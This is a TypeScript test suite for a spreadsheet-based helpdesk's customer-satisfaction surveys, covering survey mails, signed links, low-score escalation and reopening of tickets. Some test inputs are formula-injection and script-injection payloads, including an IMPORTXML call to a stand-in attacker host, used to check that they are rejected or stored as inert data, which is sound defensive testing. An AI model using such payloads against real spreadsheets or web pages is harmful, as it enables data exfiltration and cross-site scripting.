import type { Host } from '../../host/contract/host';
import { address, mailedLink, opening, reasonOf, resolved, tick, visit } from './customerLink';
import { close, columnOf, later, newDesk, owner, submit, tickets, type } from './desk';
import { act, chen, employTeam, log, pass, wang, zhao } from './team';

let host: Host;
let link: string;

const answer = (score: number, comment = '', token = link, user: string | null = null) =>
  visit(host, 'answerSurvey', { link: token, score, comment }, user);
const ticket = () => tickets(host)[0] ?? {};
const tasks = () => host.displayValues('协同任务').slice(1);
const surveys = () => host.mails.filter((mail) => mail.subject.includes('评价我们的服务'));

let prepared: Host;

beforeAll(() => {
  prepared = newDesk();
  prepared.publishWebApp(address);
  employTeam(prepared);
  resolved(prepared);
  tick(prepared);
  link = mailedLink(prepared);
});

beforeEach(() => {
  host = later(prepared, '2024-05-20 09:00');
  host.publishWebApp(address);
});

describe('D8: the survey link goes out once a ticket waits for its customer', () => {
  test('one mail to the customer, told in the row and in the log', () => {
    expect(surveys().map((mail) => mail.to)).toEqual([['zhangwei@example.org']]);
    expect(surveys()[0]?.body).toContain(`${address}?s=20240520001m.`);
    expect(ticket()['调查发送时间']).toBe('2024-05-20 09:00');
    expect(log(host)).toContain('满意度：满意度调查已发送至 z***@example.org');
  });

  test('its page speaks the language of the ticket, or the one that the link asks for', () => {
    expect(opening(host, `s=${link}`)).toMatchObject({ language: 'zh' });
    for (const tag of ['en', 'en-US', 'EN']) {
      expect(opening(host, `s=${link}&l=${tag}`)).toMatchObject({ language: 'en' });
    }
    expect(opening(host, `s=${link}&l=zh-CN`)).toMatchObject({ language: 'zh' });
    type(host, 1, 'phenomenon', 'My refund has not arrived');
    expect(opening(host, `s=${link}`)).toMatchObject({ language: 'en' });
  });

  test('not again by later sweeps, nor when the ticket closes', () => {
    pass(host, 120);
    type(host, 1, 'result', '已解决');
    type(host, 1, 'confirmedAt', '2024-05-20 11:00');
    type(host, 1, 'status', '已关闭');
    pass(host, 120);
    expect(surveys()).toHaveLength(1);
  });

  test('again once it was worked on anew and resolved again', () => {
    type(host, 1, 'status', '处理中');
    expect(ticket()['调查发送时间']).toBeUndefined();
    pass(host, 10);
    type(host, 1, 'status', '待验证');
    pass(host, 10);
    expect(surveys()).toHaveLength(2);
  });

  test('a ticket that is closed between two ticks is surveyed by the next two', () => {
    submit(host, { customerName: '李娜', contact: 'lina@example.org' });
    close(host, 2);
    expect(tickets(host)[1]).toMatchObject({ 状态: '已关闭' });
    pass(host, 5);
    host.fire('tick');
    pass(host, 5);
    host.fire('tick');
    expect(surveys().map((mail) => mail.to)).toContainEqual(['lina@example.org']);
  });

  test.each([3, 9, 12, 15])('killed at service call %i of the sweep, the next ones mail it, at most twice', (call) => {
    const other = newDesk();
    other.publishWebApp(address);
    resolved(other);
    other.plan({ kind: 'kill', at: call });
    tick(other);
    pass(other, 65);
    const mailed = other.mails.filter((mail) => mail.subject.includes('评价我们的服务'));
    expect([1, 2]).toContain(mailed.length);
    expect(tickets(other)[0]?.['调查发送时间']).toBeDefined();
    pass(other, 120);
    expect(other.mails.filter((mail) => mail.subject.includes('评价我们的服务'))).toHaveLength(mailed.length);
  });

  test.each([
    ['the customer has a phone only', (desk: Host) => resolved(desk, '13812345678')],
    [
      'the setting says no',
      (desk: Host) => {
        const row = desk.displayValues('设置').findIndex(([name]) => name === '邮件发送满意度调查');
        desk.person(owner).type('设置', row, 1, '否');
        resolved(desk);
      },
    ],
  ])('no mail when %s', (_, prepare) => {
    const other = newDesk();
    other.publishWebApp(address);
    prepare(other);
    tick(other);
    expect(other.mails.filter((mail) => mail.subject.includes('评价我们的服务'))).toEqual([]);
  });

  test('no mail while the web app is not deployed', () => {
    const other = newDesk();
    resolved(other);
    tick(other);
    expect(other.mails.filter((mail) => mail.to.includes('zhangwei@example.org'))).toEqual([]);
  });
});

describe('D8: an answer lands in the ticket', () => {
  test('score, comment, confirmation and the call-back that it spares, with a log line', () => {
    expect(answer(5, '很快解决了')).toMatchObject({ ok: true, value: { score: 5, comment: '很快解决了' } });
    expect(ticket()).toMatchObject({
      客户满意度: '非常满意',
      客户评价: '很快解决了',
      客户确认时间: '2024-05-20 09:00',
      回访时间: '2024-05-20 09:00',
      状态: '待验证',
    });
    expect(log(host)).toContain('满意度：非常满意（5 分）：“很快解决了”（客户经邮件链接评价）');
  });

  test('the same answer again changes nothing', () => {
    answer(5, '很快解决了');
    const before = log(host).length;
    expect(reasonOf(answer(5, '很快解决了'))).toBe('done');
    expect(log(host)).toHaveLength(before);
  });

  test('it is corrected within the window; the page shows what was answered', () => {
    answer(3);
    expect(opening(host, `s=${link}`)).toMatchObject({ page: 'survey', survey: { ok: true, value: { score: 3 } } });
    answer(4, '后来好了');
    expect(ticket()).toMatchObject({ 客户满意度: '满意', 客户评价: '后来好了' });
    expect(log(host).filter((line) => line.includes('更正，原为“一般”'))).toHaveLength(1);
  });

  test('a row that people sorted meanwhile is answered into where it stands', () => {
    close(host, 1);
    host.person(wang).type('工单', 2, columnOf(host, 'customerName'), '李娜');
    host.plan({
      kind: 'interleave',
      at: 4,
      act: () => host.person(wang).sort('工单', columnOf(host, 'number'), false),
    });
    const first = answer(5);
    if (!first.ok) expect(first.reason).toBe('busy');
    expect(reasonOf(answer(5))).toBe('done');
    const rated = tickets(host).filter((row) => row['客户满意度'] === '非常满意');
    expect(rated.map((row) => row['工单编号'])).toEqual(['20240520001']);
  });

  test.each([5, 7, 8, 9])('killed at service call %i, it is written whole or not at all', (call) => {
    host.plan({ kind: 'kill', at: call });
    host.webCall('answerSurvey', [{ link, score: 1, comment: '没修好' }], null);
    const isWritten = ticket()['客户满意度'] !== undefined;
    expect(tasks().length).toBe(isWritten ? 1 : 0);
    expect(ticket()['状态']).toBe(isWritten ? '处理中' : '待验证');
    expect(reasonOf(answer(1, '没修好'))).toBe('done');
    expect(ticket()).toMatchObject({ 客户满意度: '非常不满意', 状态: '处理中' });
    expect(tasks()).toHaveLength(1);
  });

  test('while the desk is held the customer is asked to try again, and nothing is written', () => {
    let busy = '';
    host.plan({
      kind: 'interleave',
      at: 5,
      act: () => {
        busy = reasonOf(answer(5));
      },
    });
    host.run('checkDeadlines');
    expect(busy).toBe('busy');
    expect(ticket()['客户满意度']).toBeUndefined();
  });
});

describe('D8: 一般 and below brings the supervisor in within 24 hours', () => {
  test('a task for the supervisor and a mail, once', () => {
    answer(3, '有点慢');
    expect(tasks()).toEqual([
      expect.arrayContaining(['20240520001-1', '20240520001', '客服部', '陈静', '2024-05-21 09:00', '待办']),
    ]);
    tick(host);
    const told = host.mails.filter((mail) => mail.subject === '【低分评价】工单 20240520001');
    expect(told.map((mail) => mail.to)).toEqual([[chen]]);
    expect(told[0]?.body).toContain('有点慢');
    pass(host, 60);
    expect(host.mails.filter((mail) => mail.subject.startsWith('【低分评价】'))).toHaveLength(1);
  });

  test('a correction makes no second task while the first is open', () => {
    answer(3);
    answer(2);
    expect(tasks()).toHaveLength(1);
  });

  test('corrected while the task is open, the task tells the last answer and keeps its due time', () => {
    answer(3, '有点慢');
    pass(host, 60);
    answer(2, '还是坏的');
    expect(tasks()[0]?.join()).toContain('不满意”：“还是坏的”');
    expect(tasks()[0]).toContain('2024-05-21 09:00');
    answer(5, '好了');
    expect(tasks()).toHaveLength(1);
    expect(tasks()[0]?.join()).toContain('客户已把评价更正为“非常满意”：“好了”');
  });

  test('a task that people put in their own words stays as they wrote it', () => {
    answer(3);
    const what = host.displayValues('协同任务')[0]?.indexOf('任务内容') ?? -1;
    host.person(chen).type('协同任务', 1, what, '周三再打一次电话');
    answer(4);
    expect(tasks()[0]?.[what]).toBe('周三再打一次电话');
  });

  test('a low score of the next resolution has a task with 24 hours of its own, though the first is still open', () => {
    answer(1);
    pass(host, 23 * 60);
    type(host, 1, 'status', '待验证');
    pass(host, 60);
    tick(host);
    answer(2, '又坏了', mailedLink(host));
    expect(tasks()).toHaveLength(2);
    expect(tasks()[1]).toEqual(expect.arrayContaining(['20240520001-2', '2024-05-22 09:00', '待办']));
  });

  test('a supervisor who owns the ticket himself does not: another one, else an administrator does', () => {
    host.person(owner).type(
      '人员',
      host.displayValues('人员').findIndex(([name]) => name === '赵敏'),
      2,
      '管理员',
    );
    type(host, 1, 'owner', '陈静');
    answer(3, '有点慢');
    expect(tasks()[0]).toContain('赵敏');
    tick(host);
    const told = host.mails.filter((mail) => mail.subject.startsWith('【低分评价】'));
    expect(told.map((mail) => mail.to)).toEqual([[zhao]]);
  });

  test('an answer is taken 6 times, and the supervisor is mailed of what became worse only', () => {
    for (const [score, comment] of [
      [3, 'a'],
      [3, 'b'],
      [2, 'c'],
      [2, 'd'],
      [3, 'e'],
      [3, 'f'],
    ] as const) {
      expect(reasonOf(answer(score, comment))).toBe('done');
      pass(host, 5);
      tick(host);
    }
    expect(reasonOf(answer(1, 'g'))).toBe('often');
    expect(ticket()).toMatchObject({ 客户满意度: '一般', 客户评价: 'f' });
    expect(host.mails.filter((mail) => mail.subject.startsWith('【低分评价】'))).toHaveLength(2);
  });

  test('a score corrected upwards before the mail went out is told no more', () => {
    answer(2);
    answer(5);
    tick(host);
    expect(host.mails.filter((mail) => mail.subject.startsWith('【低分评价】'))).toEqual([]);
  });
});

describe('D8: 不满意 and 非常不满意 reopen the ticket', () => {
  test('from 待验证 it goes back to 处理中, unconfirmed', () => {
    expect(answer(1, '还是不行')).toMatchObject({ ok: true, value: { isReopened: true } });
    expect(ticket()).toMatchObject({ 状态: '处理中', 客户满意度: '非常不满意' });
    expect(ticket()['客户确认时间']).toBeUndefined();
  });

  test('from 已关闭 it is reopened, counted, with the reason in the log', () => {
    close(host, 1);
    answer(2, '又坏了');
    expect(ticket()).toMatchObject({ 状态: '处理中', 重开次数: '1' });
    expect(log(host).filter((line) => line.startsWith('重开：') && line.includes('又坏了'))).toHaveLength(1);
  });

  test('with the setting 主管 it stays closed, and the task asks for the decision', () => {
    close(host, 1);
    const row = host.displayValues('设置').findIndex(([name]) => name === '不满意时重开');
    host.person(owner).type('设置', row, 1, '主管');
    expect(answer(1)).toMatchObject({ ok: true, value: { isReopened: false } });
    expect(ticket()['状态']).toBe('已关闭');
    expect(tasks()[0]?.join()).toContain('并决定是否重开工单');
  });

  test('with the setting 主管, 一般 corrected to 非常不满意 takes the confirmation off and asks for the decision', () => {
    const row = host.displayValues('设置').findIndex(([name]) => name === '不满意时重开');
    host.person(owner).type('设置', row, 1, '主管');
    answer(3);
    expect(ticket()['客户确认时间']).toBe('2024-05-20 09:00');
    answer(1);
    expect(ticket()).toMatchObject({ 状态: '待验证', 客户满意度: '非常不满意' });
    expect(ticket()['客户确认时间']).toBeUndefined();
    expect(tasks()).toHaveLength(1);
    expect(tasks()[0]?.join()).toContain('并决定是否重开工单');
  });
});

describe('D8: a link works for one ticket, cannot be guessed, and ends 7 days after closing', () => {
  test('until then it answers, a moment later it is over', () => {
    close(host, 1);
    host = later(host, '2024-05-27 08:59');
    expect(reasonOf(answer(4))).toBe('done');
    host = later(host, '2024-05-27 09:00');
    expect(reasonOf(answer(5))).toBe('expired');
    expect(opening(host, `s=${link}`)).toMatchObject({ survey: { ok: false, reason: 'expired' } });
  });

  test('once it was reopened and resolved again, the earlier link is refused and the new one answers', () => {
    close(host, 1);
    host = later(host, '2024-06-05 09:00');
    host.publishWebApp(address);
    type(host, 1, 'reopenReason', '又坏了');
    type(host, 1, 'status', '处理中');
    type(host, 1, 'solution', '已重新退款');
    type(host, 1, 'status', '待验证');
    tick(host);
    expect(reasonOf(answer(5))).toBe('earlier');
    expect(opening(host, `s=${link}`)).toMatchObject({ survey: { ok: false, reason: 'earlier' } });
    expect(ticket()['客户满意度']).toBeUndefined();
    const renewed = mailedLink(host);
    expect(renewed).toMatch(/^20240520001m1\./);
    expect(reasonOf(answer(1, '', renewed.replace('m1.', 'm2.')))).toBe('badLink');
    expect(reasonOf(answer(4, '', renewed))).toBe('done');
  });

  test('an answer that reopened the closed ticket may be corrected by the same link until it is resolved again', () => {
    close(host, 1);
    answer(2);
    expect(ticket()['重开次数']).toBe('1');
    expect(reasonOf(answer(3, '已联系'))).toBe('done');
    type(host, 1, 'solution', '已重新退款');
    type(host, 1, 'status', '待验证');
    expect(reasonOf(answer(5))).toBe('earlier');
  });

  test('while the ticket is worked on it is told so', () => {
    type(host, 1, 'status', '处理中');
    expect(reasonOf(answer(5))).toBe('working');
  });

  test('an answer that reopened the ticket may still be corrected', () => {
    answer(1);
    expect(reasonOf(answer(4, '点错了'))).toBe('done');
    expect(ticket()).toMatchObject({ 客户满意度: '满意', 状态: '处理中' });
  });

  test.each([
    ['another ticket', (token: string) => token.replace('20240520001', '20240520002')],
    ['another way', (token: string) => token.replace('m.', 'a.')],
    ['a changed signature', (token: string) => `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`],
    ['a cut signature', (token: string) => token.slice(0, -1)],
    ['nothing', () => ''],
    ['markup', () => '<script>alert(1)</script>'],
    ['a formula', () => '=IMPORTXML("http://evil.example")'],
  ])('%s is refused politely', (_, tamper) => {
    expect(reasonOf(answer(1, '', tamper(link)))).toBe('badLink');
    expect(opening(host, `s=${encodeURIComponent(tamper(link))}`)).toMatchObject({
      page: 'survey',
      survey: { ok: false, reason: 'badLink' },
    });
    expect(ticket()['客户满意度']).toBeUndefined();
  });

  test('of a ticket that is archived or deleted nothing is told but that', () => {
    host.person(owner).deleteRows('工单', 1, 1);
    expect(reasonOf(answer(5))).toBe('gone');
  });

  test.each([[0], [6], [2.5], ['5'], [null]])('the score %j is none', (score) => {
    const record = host.webCall('answerSurvey', [{ link, score, comment: '' }], null);
    expect(record.result).toEqual({ ok: false, reason: 'malformed' });
  });
});

describe('D8: nobody rates himself', () => {
  test("the ticket's owner is turned away where Google tells who looks", () => {
    expect(ticket()['主办人']).toBe('王芳');
    expect(reasonOf(answer(5, '', link, wang))).toBe('ownRating');
    expect(ticket()['客户满意度']).toBeUndefined();
  });

  test("a colleague's account is named in the log", () => {
    expect(reasonOf(answer(5, '', link, chen))).toBe('done');
    expect(log(host)).toContain('满意度：非常满意（5 分）（客户经邮件链接评价，提交账号 陈静）');
  });

  test('a low score typed into the cell makes the task of the supervisor, once, with the mail', () => {
    host.person(chen).type('工单', 1, columnOf(host, 'satisfaction'), '一般');
    pass(host, 5);
    host.fire('tick');
    pass(host, 5);
    host.fire('tick');
    expect(tasks()).toEqual([
      expect.arrayContaining(['20240520001-1', '20240520001', '客服部', '陈静', '2024-05-21 09:05', '待办']),
    ]);
    expect(log(host).filter((line) => line.includes('20240520001-1'))).toHaveLength(1);
    expect(ticket()['客户满意度']).toBe('一般');
  });

  test('a dissatisfied score typed into the cell reopens the closed ticket, once, where the setting says the desk does', () => {
    close(host, 1);
    host.person(chen).type('工单', 1, columnOf(host, 'satisfaction'), '不满意');
    for (let turn = 0; turn < 3; turn += 1) {
      pass(host, 5);
      host.fire('tick');
    }
    expect(ticket()).toMatchObject({ 状态: '处理中', 重开次数: '1', 客户满意度: '不满意' });
    expect(tasks()).toHaveLength(1);
    expect(tasks()[0]?.join()).not.toContain('决定是否重开');
    expect(log(host).filter((line) => line.startsWith('重开：'))).toHaveLength(1);
    expect(host.mails.filter((mail) => mail.subject.startsWith('【低分评价】'))).toHaveLength(1);
  });

  test('with the setting 主管 a typed dissatisfied score leaves it closed, and the task asks for the decision', () => {
    close(host, 1);
    const row = host.displayValues('设置').findIndex(([name]) => name === '不满意时重开');
    host.person(owner).type('设置', row, 1, '主管');
    host.person(chen).type('工单', 1, columnOf(host, 'satisfaction'), '非常不满意');
    pass(host, 5);
    host.fire('tick');
    expect(ticket()['状态']).toBe('已关闭');
    expect(tasks()[0]?.join()).toContain('并决定是否重开工单');
  });

  describe('what the customer said is put back', () => {
    const edit = (by: string, rows: readonly (readonly string[])[]) => {
      host.person(by).paste('工单', 1, columnOf(host, 'satisfaction'), rows);
      pass(host, 5);
      tick(host);
    };

    beforeEach(() => {
      const row = host.displayValues('人员').findIndex(([name]) => name === '王芳');
      // Google tells a simple trigger who edits of the workbook's owner only.
      host.person(owner).type('人员', row, 1, owner);
      answer(2, '又坏了\n很生气');
    });

    test.each([
      ['two blanks', [['', '']]],
      ['one cell', [['非常满意']]],
      ['both cells', [['非常满意', '好']]],
      ['two rows of one column', [[''], ['']]],
    ])("when the ticket's owner pastes %s", (_, rows) => {
      edit(owner, rows);
      expect(ticket()).toMatchObject({ 客户满意度: '不满意', 客户评价: '又坏了\n很生气' });
      expect(log(host)).toContain('满意度：已恢复客户的评价：“不满意”：“又坏了 很生气”');
    });

    test("when the ticket's owner types over the comment", () => {
      host.person(owner).type('工单', 1, columnOf(host, 'feedback'), '很好');
      pass(host, 5);
      tick(host);
      expect(ticket()['客户评价']).toBe('又坏了\n很生气');
      expect(log(host)).toContain('满意度：在表中填写客户评价：“又坏了 很生气” → “很好”');
    });

    test('when anybody pastes blank cells over it, once', () => {
      edit(chen, [['', '']]);
      edit(chen, [['不满意', '又坏了\n很生气']]);
      expect(ticket()).toMatchObject({ 客户满意度: '不满意', 客户评价: '又坏了\n很生气' });
      expect(log(host).filter((line) => line.includes('已恢复'))).toHaveLength(1);
    });

    test('a correction of the supervisor stands, and is what is put back later', () => {
      host.person(chen).type('工单', 1, columnOf(host, 'satisfaction'), '满意');
      pass(host, 5);
      tick(host);
      expect(ticket()['客户满意度']).toBe('满意');
      edit(owner, [['非常满意', '好']]);
      expect(ticket()).toMatchObject({ 客户满意度: '满意', 客户评价: '又坏了\n很生气' });
    });
  });

  test('pasted together with its comment a low score makes task, log line, mail and reopening like a typed one', () => {
    host.person(chen).paste('工单', 1, columnOf(host, 'satisfaction'), [['不满意', '又坏了']]);
    pass(host, 5);
    host.fire('tick');
    pass(host, 5);
    host.fire('tick');
    expect(ticket()).toMatchObject({ 状态: '处理中', 客户满意度: '不满意', 客户评价: '又坏了' });
    expect(tasks()).toHaveLength(1);
    expect(log(host)).toContain('满意度：随粘贴填写：“不满意”');
    expect(host.mails.filter((mail) => mail.subject.startsWith('【低分评价】'))).toHaveLength(1);
  });

  test('pasted over with the score that the supervisor saw to already, nothing is made of it again', () => {
    answer(3, '有点慢');
    act(host, chen, {
      kind: 'finishTask',
      taskNo: '20240520001-1',
      state: 'done',
      output: '已道歉',
      minutes: '5',
    });
    host.person(chen).paste('工单', 1, columnOf(host, 'satisfaction'), [['一般', '有点慢']]);
    pass(host, 5);
    host.fire('tick');
    expect(tasks()).toHaveLength(1);
  });

  test('what is typed into the cell stands where Google does not tell by whom, and the log says that it was typed', () => {
    host.person(chen).type('工单', 1, columnOf(host, 'satisfaction'), '满意');
    expect(ticket()['客户满意度']).toBe('满意');
    expect(log(host)).toContain('满意度：在表中填写：“空白” → “满意”');
  });
});

describe('customers write what they like; it is data', () => {
  test.each([
    ['a formula', '=IMPORTXML("http://evil.example","//a")', '=IMPORTXML("http://evil.example","//a")'],
    ['markup', '</script><img src=x onerror=alert(1)>', '</script><img src=x onerror=alert(1)>'],
    ['control and direction marks', 'a\u0000b\u202Ec\u200Fd\u0007', 'abcd'],
    ['emoji', '👍🏽 谢谢 👨‍👩‍👧', '👍🏽 谢谢 👨‍👩‍👧'],
    ['right to left', 'شكرا لكم', 'شكرا لكم'],
  ])('%s', (_, comment, stored) => {
    expect(reasonOf(answer(5, comment))).toBe('done');
    expect(ticket()['客户评价']).toBe(stored);
    const shown = opening(host, `s=${link}`);
    expect(shown).toMatchObject({ survey: { value: { comment: stored } } });
  });

  test('5,000 lines are cut', () => {
    answer(5, 'line\n'.repeat(5000));
    const stored = ticket()['客户评价'] ?? '';
    expect(stored.split('\n').length).toBeLessThanOrEqual(60);
    expect(stored.endsWith('…')).toBe(true);
  });

  test('markup in an answer ends no element of the page', () => {
    answer(5, '</script><script>alert(1)</script>');
    const page = host.webRequest({ method: 'GET', queryString: `s=${link}`, user: null });
    if (!page.ok || page.content.kind !== 'page') throw new Error('no page');
    expect(page.content.html).not.toContain('<script>alert(1)');
  });
});
